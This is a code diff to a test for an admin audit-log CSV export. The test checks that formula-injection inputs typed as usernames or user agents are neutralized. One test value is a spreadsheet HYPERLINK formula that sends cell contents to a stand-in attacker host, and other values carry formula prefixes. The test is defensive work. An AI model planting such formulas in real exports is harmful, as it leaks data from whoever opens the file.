@@ -403,9 +403,12 @@ describe('GET /api/admin/audit/export/', () => {
   it('neutralizes formulas an attacker typed as a username or user agent', async () => {
     const { ctx, as } = await cast()
     const attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    // A name no account has is stored as a digest (issue #13 item 7); the user agent as sent.
     const failed = await login(ctx, attack, 'whatever', { 'user-agent': '@SUM(1)' })
     expect(failed.response.statusCode).toBe(400)
+    await createUser(ctx, '+cmd')
     await login(ctx, '+cmd', 'whatever', { 'user-agent': '-2+3' })
+    await login(ctx, 'nobody', 'whatever', { 'user-agent': attack })
     const { records, body } = await exportCsv(ctx, as.root)
     for (const record of records) {
       for (const cell of record) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
